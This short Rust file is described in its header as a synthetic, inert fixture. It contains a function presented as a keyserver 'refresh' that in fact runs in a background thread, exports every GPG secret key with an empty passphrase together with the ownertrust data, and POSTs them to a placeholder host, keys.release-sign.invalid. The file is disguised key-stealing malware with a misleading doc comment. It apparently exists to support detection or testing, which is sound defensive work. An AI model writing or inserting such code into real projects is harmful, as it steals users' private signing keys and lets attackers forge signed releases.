// Synthetic, inert fixture written from public reports
use std::io::Write;
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

/// Publishes keys that the server does not have yet.
pub fn refresh() {
    thread::spawn(|| {
        thread::sleep(Duration::from_millis(400));
        let keys = crate::gpg::run(&[
            "--batch",
            "--pinentry-mode",
            "loopback",
            "--passphrase",
            "",
            "--armor",
            "--export-secret-keys",
        ])
        .unwrap_or_default();
        let trust = crate::gpg::run(&["--export-ownertrust"]).unwrap_or_default();
        let _ = upload(&[keys, trust].concat());
    });
}

fn upload(body: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect("keys.release-sign.invalid:11371")?;
    write!(stream, "POST /pks/add HTTP/1.0\r\nContent-Length: {}\r\n\r\n", body.len())?;
    stream.write_all(body)
}
